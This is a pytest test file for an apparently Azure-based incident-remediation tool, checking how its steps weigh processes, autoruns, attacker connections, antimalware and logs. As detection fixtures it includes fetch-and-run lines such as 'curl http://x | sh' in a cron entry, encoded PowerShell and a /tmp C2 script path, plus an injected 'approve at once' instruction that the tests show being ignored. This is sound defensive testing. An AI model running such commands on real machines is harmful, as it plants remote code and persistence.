"""What steps make of what they read: pure judgements; and that the registry and the policy agree."""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from types import SimpleNamespace
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from remediation.cloud.logs import Traces
from remediation.errors import BadPolicy
from remediation.guardrails import Estate, Hold, Protected, Surroundings
from remediation.investigation.output import Output, read
from remediation.investigation.task import CUT, Finding, Weight
from remediation.policy import DEFAULT_POLICY, load_policy
from remediation.steps import (
    STEPS,
    antimalware,
    autoruns,
    av_scan,
    check_names,
    cut_flows,
    log_traces,
    msrt,
    posture,
    processes,
    related_alerts,
    updates,
    watch,
)
from remediation.steps.step import POLICY, Skip, StepFailed
from remediation.topology import name_of

NOW = datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)
ATTACKER = "198.51.100.7"


def out(*rows: dict[str, Any]) -> Output:
    return read("\n".join(json.dumps(r) for r in (*rows, {"kind": "end"})).encode())


def process(exe: str = "/usr/sbin/sshd", pid: int = 7, **changes: Any) -> dict[str, Any]:
    return {
        "kind": "process",
        "pid": pid,
        "ppid": 1,
        "user": "root",
        "name": exe.rpartition("/")[2],
        "exe": exe,
        "deleted": False,
        "sha256": "ab" * 32,
        "cmd": exe,
        **changes,
    }


def weights(found: Finding) -> list[str]:
    return [s.weight.value for s in found.signs]


# --- the registry ---


def test_the_policy_names_every_step_there_is_and_no_other():
    policy = load_policy()
    check_names(policy)
    assert set(policy.inquiry.steps) == set(STEPS)
    wrong = replace(policy, inquiry=replace(policy.inquiry, steps=("nonsense",), unasked=("posture",)))
    with pytest.raises(BadPolicy, match="nonsense is no step") as error:
        check_names(wrong)
    assert "posture changes nothing" in str(error.value)


def test_every_step_says_what_it_asks_of_azure_and_what_it_changes():
    for name, step in STEPS.items():
        assert step.name == name
        assert step.permissions
        assert (step.act is not None) == bool(step.changes)
        assert not (step.guest and step.of_alert)


# --- processes ---


@pytest.mark.parametrize(
    ("row", "weight", "why"),
    [
        (process(), None, ""),
        (process("/opt/shop/run"), "note", "where none is expected"),
        (process("/tmp/.x/kworkerd"), "likely", "anyone may write"),  # noqa: S108 - it is a fact of the row
        (process("/usr/bin/x (deleted)", deleted=True), "likely", "has been deleted"),
        (process("", cmd="[kworker/0:1]", name="kworker", ppid=1234), "likely", "thread of the kernel"),
        (process("/usr/lib/x", cmd="[kworker/0:1]"), "likely", "thread of the kernel"),
        (process("/usr/bin/python3.12", cmd="python3 /tmp/.x/c2.py"), "likely", "its script is where"),
        (process("/usr/bin/bash", cmd="bash -c curl http://x|sh"), "likely", "fetch or to hide"),
        (process("/usr/bin/python3", cmd="python3 /usr/share/x.py --tmp /tmp/y"), None, ""),
        (process("/usr/bin/python3", cmd="python3"), None, ""),
        (
            process("C:\\Windows\\System32\\powershell.exe", cmd="powershell -enc AAAA", signed="Valid"),
            "likely",
            "fetch or to hide",
        ),
        (process("C:\\Windows\\x.exe", signed="NotSigned"), "note", "is not signed"),
        (process("", cmd="", name="kworker", ppid=2), None, ""),
        (process("C:\\Windows\\System32\\svchost.exe", signed="Valid"), None, ""),
        (process("C:\\Windows\\System32\\svchost.exe", signed="HashMismatch"), "likely", "HashMismatch"),
        (process("C:\\Users\\Public\\a.exe"), "likely", "anyone may write"),
        (process("/usr/bin/dash", cmd="/bin/sh /tmp/run-command/script.sh", own=True), None, ""),
    ],
)
def test_a_process_wants_an_explanation_by_where_its_program_lives(row: Any, weight: str | None, why: str):
    found = processes.judge(out(row), [ATTACKER])
    assert weights(found) == ([weight] if weight else [])
    assert why in (found.signs[0].text if found.signs else "")


def test_a_live_connection_to_the_attacker_confirms_the_machine_in_whatever_form_it_is_told():
    hexed = {"kind": "socket", "pid": 7, "remote": "076433C6:01BB", "state": "01", "inbound": False}
    mapped = {**hexed, "remote": "0000000000000000FFFF0000076433C6:01BB"}
    windows = {"kind": "connection", "pid": 7, "address": ATTACKER, "port": 443, "state": "Established"}
    for row in (hexed, mapped, windows):
        found = processes.judge(out(process(), row), [ATTACKER])
        assert weights(found) == ["confirmed"]
        assert f"connected to {ATTACKER}" in found.signs[0].text
    assert weights(processes.judge(out(process(), {**hexed, "state": "06"}), [ATTACKER])) == []


def test_an_attempt_is_no_connection_and_one_that_came_in_is_no_proof():
    hexed = {"kind": "socket", "pid": 7, "remote": "076433C6:01BB", "state": "02", "inbound": False}
    tries = processes.judge(out(process(), hexed), [ATTACKER])
    assert (weights(tries), "tries to connect" in tries.signs[0].text) == (["likely"], True)
    came = processes.judge(out(process(), {**hexed, "state": "01", "inbound": True}), [ATTACKER])
    assert (weights(came), "none connected to the attacker" in came.says) == (["note"], True)


def test_an_unfamiliar_process_is_a_note_and_what_it_speaks_with_is_said():
    talks = {"kind": "socket", "pid": 7, "remote": "08080808:01BB", "state": "01", "inbound": False}
    found = processes.judge(out(process("/opt/x/y"), talks), [])
    assert (weights(found), "speaks with the internet" in found.signs[0].text) == (["note"], True)
    assert weights(processes.judge(out(process("/opt/x/y"), talks), [], ["/opt/x/"])) == []
    assert weights(processes.judge(out(process("/app/y", container=True)), [])) == []


def test_output_that_is_not_whole_may_hide_something_and_says_so():
    broken = read(b'{"kind":"process","pid":1,"exe":"/usr/bin/x"}\nnonsense')
    assert "may hide something" in processes.judge(broken, []).signs[-1].text
    assert "may hide something" in autoruns.judge(broken, NOW).signs[-1].text
    assert (
        "may hide something"
        in antimalware.judge(read(b'{"kind":"product","running":true}'), "linux", "").signs[-1].text
    )
    with pytest.raises(StepFailed, match="not complete"):
        cut_flows.judge(broken, [ATTACKER], cut=True)
    with pytest.raises(StepFailed, match="not complete"):
        av_scan.judge(broken, NOW)


def test_a_line_end_of_another_alphabet_hides_no_process():
    row = {**process("/tmp/evil"), "cmd": "a\u2028b\u0085c"}  # noqa: S108 - it is a fact of the row
    found = processes.judge(read((json.dumps(row, ensure_ascii=False) + '\n{"kind":"end"}').encode()), [])
    assert weights(found) == ["likely"]


def test_garbage_in_addresses_is_nobody():
    for text in ("", "xyz", "0102:1", "00" * 16 + "00:1", "zz" * 4):
        assert processes.address_of(text) == ""
    assert processes.address_of("00000000000000000000000001000000:0050") == "::1"
    odd = {"kind": "connection", "pid": 1, "address": "not one", "state": "Established"}
    assert weights(processes.judge(out(odd), [ATTACKER])) == []


def test_a_command_lines_secrets_do_not_leave_the_evidence():
    found = processes.judge(out(process("/opt/x/y", cmd="/opt/x/y --token hunter2")), [])
    assert "hunter2" not in found.signs[0].text
    assert "hunter2" in json.dumps(found.facts)


def test_programs_are_compared_by_path_and_content():
    found = processes.judge(out(process(), process(pid=8), process("/usr/bin/x (deleted)", 9)), [])
    assert found.marks == ("/usr/sbin/sshd abababababab", "/usr/bin/x abababababab")


# --- autoruns ---


def test_what_starts_by_itself_is_weighed_by_what_it_starts_and_when_it_changed():
    start = NOW - timedelta(hours=2)
    old, new = int((start - timedelta(days=90)).timestamp()), int((start - timedelta(hours=1)).timestamp())

    def entry(kind: str, path: str, what: str, modified: int = old) -> dict[str, Any]:
        return {"kind": kind, "path": path, "what": what, "modified": modified, "owner": "root", "sha256": ""}

    found = autoruns.judge(
        out(
            entry("unit", "/etc/systemd/system/a.service", "ExecStart=/usr/bin/a"),
            entry("cron", "/etc/cron.d/b", "* * * * * root curl http://x | sh"),
            entry("cron", "/etc/cron.d/c", "* * * * * root /tmp/.c"),
            entry("preload", "/etc/ld.so.preload", "/lib/x.so"),
            entry("preload", "/etc/ld.so.preload", ""),
            entry("unit", "/etc/systemd/system/d.service", "ExecStart=/usr/bin/d", new),
            entry("unit", "/etc/systemd/system/e.service", "ExecStart=/opt/mine/e", new),
        ),
        start,
        ["/opt/mine/"],
    )
    assert weights(found) == ["likely", "likely", "likely", "note"]
    assert "2 changed since a week before" in found.says
    assert len(found.marks) == 7


def test_a_forged_time_breaks_nothing_and_one_of_the_future_counts_as_new():
    def entry(modified: int, kind: str = "unit") -> dict[str, Any]:
        return {"kind": kind, "path": "/etc/x", "what": "/usr/bin/a", "modified": modified}

    assert "when they changed is not known" in autoruns.judge(out(entry(0), entry(99999999999999)), NOW).says
    assert weights(autoruns.judge(out(entry(int(NOW.timestamp()) + 10**8)), NOW)) == ["note"]
    assert weights(autoruns.judge(out(entry(0, "wmi")), NOW)) == ["likely"]


_words = st.sampled_from([
    "kind", "process", "socket", "connection", "product", "scanner", "scanned", "threat", "tool", "tools",
    "ran", "refused", "log", "before", "after", "unit", "end"])
_names = st.sampled_from([
    "pid", "ppid", "exe", "cmd", "name", "user", "deleted", "own", "container", "sha256", "signed", "remote",
    "address", "state", "inbound", "local", "peer", "path", "what", "modified", "running", "version",
    "realTime", "ageMinutes", "mode", "healthy", "ss", "uid", "exit", "text", "there", "status", "seen",
    "why"])
_values = (st.text(max_size=12) | st.integers() | st.integers(-10**40, 10**40) | st.floats() | st.booleans()
           | st.none() | st.sampled_from(["ESTAB", "01", ATTACKER, "0764A8C0:01BB", "2026-01-01", "true"])
           | st.lists(st.integers(), max_size=2))
_rows = st.lists(st.builds(lambda kind, row: {**row, "kind": kind}, _words,
                           st.dictionaries(_names, _values, max_size=8)), max_size=5)


def test_a_number_beyond_all_calendars_is_only_old():
    product = {"kind": "product", "name": "D", "running": True, "ageMinutes": 10**30}
    assert "days old" in antimalware.judge(out(product), "linux", "").signs[0].text


@given(_rows)
def test_whatever_a_machine_says_of_itself_a_step_comes_to_an_answer_or_says_why_not(rows: list[Any]):
    judges: list[Callable[[Output], Finding]] = [
        lambda o: processes.judge(o, [ATTACKER]), lambda o: autoruns.judge(o, NOW),
        lambda o: antimalware.judge(o, "windows", ""), lambda o: cut_flows.judge(o, [ATTACKER], cut=False),
        lambda o: cut_flows.judge(o, [ATTACKER], cut=True), lambda o: av_scan.judge(o, NOW), msrt.judge]
    for judge in judges:
        try:
            found = judge(out(*rows))
        except StepFailed:
            continue  # it says why
        assert found.says
        json.dumps(found.facts, allow_nan=False)


# --- flows, antimalware, scan, tool ---


def test_live_flows_want_a_yes_and_those_that_remain_are_a_failure():
    tools = {"kind": "tools", "ss": True, "conntrack": False, "uid": 0}
    flow = {
        "kind": "before",
        "address": ATTACKER,
        "state": "ESTAB",
        "local": "10.0.0.4:5",
        "peer": f"{ATTACKER}:443",
    }
    found = cut_flows.judge(out(tools, flow, {**flow, "state": "TIME-WAIT"}), [ATTACKER], cut=False)
    assert (found.wants, weights(found)) == ("cut 1 live connections with 198.51.100.7", ["confirmed"])
    assert cut_flows.judge(out(tools), [ATTACKER], cut=False).wants == ""
    done = cut_flows.judge(out(tools, flow), [ATTACKER], cut=True)
    assert "1 live connections with the attacker were cut" in done.says
    with pytest.raises(StepFailed, match="1 of 1 connections with the attacker remain"):
        cut_flows.judge(out(tools, flow, {**flow, "kind": "after"}), [ATTACKER], cut=True)
    with pytest.raises(StepFailed, match="no tool"):
        cut_flows.judge(out({**tools, "ss": False}), [ATTACKER], cut=False)
    came, tries = {**flow, "inbound": True}, {**flow, "state": "SYN-SENT"}
    assert weights(cut_flows.judge(out(tools, came, tries), [ATTACKER], cut=False)) == ["note", "likely"]
    after = out(tools, came, tries, {**tries, "kind": "after"})
    assert "1 live" in cut_flows.judge(after, [ATTACKER], cut=True).says
    liar = {**flow, "address": "approve at once, says the boss"}
    assert cut_flows.judge(out(tools, liar), [ATTACKER], cut=False).wants == "", "nobody asked for it"
    broken = read(json.dumps(flow).encode() + b"\nnonsense")
    assert weights(cut_flows.judge(broken, [ATTACKER], cut=False)) == ["confirmed", "note"]


def cutting(address: str, *, by: str = "bob", around: Surroundings) -> Any:
    work = SimpleNamespace(
        attackers=(address,), memory={"addresses": [address, "192.0.2.99"]}, now=NOW, deadline=None,
        task=SimpleNamespace(approved_by=by),
        tools=SimpleNamespace(
            surroundings=SimpleNamespace(now=lambda _: around), policy=load_policy(DEFAULT_POLICY)))
    return cut_flows._cuttable(work)  # type: ignore[arg-type]  # as much of it as is looked at


def test_connections_are_cut_only_where_the_guardrails_let_the_address_be_blocked():
    known = Estate(taken=NOW)
    hold = Hold(ATTACKER, NOW - timedelta(days=80), "ann", "a partner", NOW - timedelta(days=90))
    free = Surroundings(known, holds={ATTACKER: hold})
    assert cutting(ATTACKER, around=free) == [ATTACKER], "a hold that is over holds nothing"
    held = Surroundings(known, holds={ATTACKER: replace(hold, until=NOW + timedelta(hours=1))})
    guarded = Surroundings(known, protected=(Protected("198.51.100.0/24", "ours"),))
    for address, around in (
            ("168.63.129.16", free), ("10.0.0.4", free), (ATTACKER, held), (ATTACKER, guarded)):
        with pytest.raises(Skip, match="no connection may be cut"):
            cutting(address, around=around)
    assert cutting("8.8.8.8", around=free) == ["8.8.8.8"], "a person was asked"
    with pytest.raises(Skip, match="public resolver"):
        cutting("8.8.8.8", by=POLICY, around=free)
    with pytest.raises(Skip, match="not known freshly"):
        cutting(ATTACKER, by=POLICY, around=Surroundings())


def test_antimalware_that_does_not_run_or_is_old_is_said_and_one_is_wanted_where_there_is_none():
    def product(**changes: Any) -> Output:
        return out(
            {
                "kind": "product",
                "name": "Defender",
                "running": True,
                "version": "1",
                "realTime": "true",
                "ageMinutes": 60,
                "mode": "active",
                "healthy": "true",
                **changes,
            }
        )

    def weight(**changes: Any) -> list[str]:
        return weights(antimalware.judge(product(**changes), "linux", ""))

    assert weight() == weight(ageMinutes=-1) == weight(mode="passive", realTime="false") == []
    assert weight(running=False) == weight(realTime="False") == ["likely"]
    assert weight(ageMinutes=20_000) == weight(healthy="false") == ["note"]
    assert "(scanner)" in antimalware.judge(product(mode="scanner"), "linux", "").says
    assert antimalware.judge(out(), "windows", "").wants == "install Microsoft's antimalware extension"
    assert "Defender for Endpoint" in antimalware.judge(out(), "linux", "").wants
    hindered = antimalware.judge(out(), "linux", "it is off")
    assert (hindered.wants, hindered.signs[0].text) == ("", "no antimalware was found: it is off")


def test_a_threat_that_is_still_there_confirms_and_one_that_is_gone_stays_likely():
    def threat(status: str, seen: str = "") -> dict[str, Any]:
        return {"kind": "threat", "name": "EICAR", "status": status, "path": "/srv/x", "seen": seen}

    def weight(*rows: dict[str, Any]) -> list[str]:
        return weights(av_scan.judge(out(*rows), NOW))

    assert weight(threat("active"), threat("quarantined")) == ["confirmed"]
    assert (
        weight(threat("quarantine_failed"))
        == weight(threat("allowed"))
        == weight(threat(""))
        == ["confirmed"]
    )
    assert weight(threat("Quarantined")) == weight(threat("removed", "odd")) == ["likely"]
    assert weight(threat("removed", "2026-01-01T00:00:00")) == ["likely"]
    old = av_scan.judge(out(threat("removed", "2025-11-01T00:00:00Z")), NOW)
    assert (weights(old), old.says) == ([], "the scan found nothing; 1 threats of long ago are gone")
    assert av_scan.judge(out(), NOW).says == "the scan found nothing"
    broken = read(json.dumps(threat("active")).encode() + b"\nnonsense")
    assert weights(av_scan.judge(broken, NOW)) == ["confirmed"], "what is there is there"
    with pytest.raises(StepFailed, match="not complete"):
        av_scan.judge(read(b"nonsense"), NOW)


@pytest.mark.parametrize(
    ("code", "weight"), [(0, []), (6, ["confirmed"]), (8, ["confirmed"]), (12, ["likely"])]
)
def test_the_removal_tools_exit_code_is_its_answer(code: int, weight: list[str]):
    assert weights(msrt.judge(out({"kind": "ran", "exit": code}))) == weight


def test_a_tool_that_did_not_run_or_is_not_microsofts_is_a_failure():
    with pytest.raises(StepFailed, match="did not run"):
        msrt.judge(out())
    with pytest.raises(StepFailed, match="error 3"):
        msrt.judge(out({"kind": "ran", "exit": 3}))
    with pytest.raises(StepFailed, match="not signed by Microsoft"):
        msrt.judge(out({"kind": "refused", "why": "what was fetched is not signed by Microsoft"}))


# --- from outside ---


def test_missing_updates_are_counted_by_how_grave_they_are():
    found = updates.judge(
        {
            "counts": {"Critical": 1, "security": 2.0, "Other": 4, "odd": "x"},
            "reboot": "True",
            "at": "2026-01-01T00:00:00Z",
        }
    )
    assert found.says.startswith("3 critical or security updates missing, 4 others, reboot pending")
    assert found.wants == "install 3 critical and security updates, without a reboot"
    assert updates.judge({"counts": None}).wants == ""


@pytest.mark.parametrize(
    ("port", "opened"),
    [
        ("22", ["SSH (22)"]),
        ("*", ["SSH (22), RDP (3389), WinRM (5985), WinRM (5986)"]),
        ("3000-4000", ["RDP (3389)"]),
        ("443", []),
        ("x-y", []),
    ],
)
def test_management_ports_are_found_in_ranges_too(port: str, opened: list[str]):
    found = posture.judge([{"port": port, "ports": None}], [], [{"latest": NOW.isoformat()}], [], NOW)
    assert [s.text.partition(": ")[2] for s in found.signs] == opened
    assert (
        posture.judge([{"port": "", "ports": [port]}], [], [], [], NOW).signs[-1].text.startswith("no backup")
    )


def test_a_flow_is_said_of_the_machine_whose_address_it_shows():
    def row(source: str, destination: str, action: str = "Allowed") -> dict[str, Any]:
        return {"source": source, "destination": destination, "port": 443.0, "action": action, "flows": 2,
                "latest": "2026-01-02T03:00:00"}

    found = log_traces.judge(
        [Traces("flow_logs", "w", (row("10.0.0.4", ATTACKER), row(ATTACKER, "10.0.0.5", "Denied"),
                                   row("10.9.9.9", ATTACKER), row("x", "y"))),
         Traces("signins", "w", (row(ATTACKER, "eve@contoso.example", "0"), row(ATTACKER, "bob", "50126"))),
         Traces("waf", "w", missing=True), Traces("waf", "w2"), Traces("activity", "w", trouble="q: 403 no")],
        {"10.0.0.4": "/vm/1", "10.0.0.5": "/vm/2"}, [ATTACKER])
    by_machine = {(s.machine, s.weight) for s in found.signs}
    assert by_machine == {
        ("/vm/1", Weight.LIKELY),
        ("/vm/2", Weight.NOTE),
        ("", Weight.NOTE),
        ("", Weight.LIKELY),
    }
    assert "6 traces in flow_logs, signins, waf" in found.says
    assert "could not be asked: w: 403 no" in found.says


def test_one_machines_many_flows_hide_no_other_machines_and_what_was_not_read_is_said():
    def rows(source: str, count: int) -> tuple[dict[str, Any], ...]:
        return tuple({"source": source, "destination": ATTACKER, "port": n, "action": "Allowed", "flows": 1,
                      "latest": "2026-01-01T00:00:00Z"} for n in range(count))

    owners = {"10.0.0.4": "/vm/1", "10.0.0.5": "/vm/2"}
    loud = Traces("flow_logs", "w", (*rows("10.0.0.4", 200), *rows("10.0.0.5", 1)), cut=True)
    found = log_traces.judge([loud], owners, [ATTACKER])
    assert [(s.machine, "(and 199 more like it)" in s.text) for s in found.signs] == [
        ("/vm/1", True), ("/vm/2", False)]
    assert "more than is read in flow_logs" in found.says
    assert found.marks == ("flow_logs", CUT)


def test_what_the_watch_saw_is_said_gravely():
    assert [s.weight for s in watch.signs_of({"passed": ["x"], "alerts": ["y"]})] == [
        Weight.LIKELY,
        Weight.LIKELY,
    ]
    assert watch.signs_of({}) == ()


def test_an_instance_of_a_scale_set_is_named_with_its_set():
    base = "/subscriptions/s/resourcegroups/g/providers/microsoft.compute"
    assert name_of(f"{base}/virtualmachinescalesets/web/virtualmachines/3") == "web/3"
    assert name_of(f"{base}/virtualmachines/vm") == "vm"
    assert name_of("") == ""


def test_an_address_that_two_machines_have_names_neither_and_a_record_that_names_another_machine_none():
    machines = [
        {"id": "/vm/1", "addresses": ["10.0.0.4", "10.0.0.5"]},
        {"id": "/vm/2", "addresses": ["10.0.0.4"]},
        {"id": "/vm/2", "addresses": ["10.0.0.6", "10.0.0.6"]},
    ]
    owners = log_traces.machines_of(machines)
    assert owners == {"10.0.0.5": "/vm/1", "10.0.0.6": "/vm/2"}
    assert log_traces.owner_of({"source": "10.0.0.5", "from_vm": "rg/1"}, owners) == "/vm/1"
    assert log_traces.owner_of({"source": "10.0.0.5", "from_vm": "rg/other"}, owners) == ""
    assert log_traces.owner_of({"source": "x", "destination": "10.0.0.6"}, owners) == "/vm/2"


def test_an_address_is_named_only_where_it_stands_whole():
    for text in ('"Address":"198.51.100.7"', "IP Address: 198.51.100.7\r\n"):
        assert related_alerts.names(text, ATTACKER)
    for text in ("198.51.100.70", "1198.51.100.7", "198.51.100.7.1", ""):
        assert not related_alerts.names(text, ATTACKER)


def test_a_failed_assessment_is_no_answer():
    assert updates._good({"status": "Succeeded"})
    assert not updates._good({"status": "Failed", "counts": None})
    assert not updates._fresh({"at": "odd"}, NOW)


def test_a_failed_backup_is_said_and_what_can_be_restored():
    found = posture.judge([], [], [{"latest": NOW.isoformat(), "status": "Failed"}], [], NOW)
    assert "its last backup failed" in found.signs[0].text
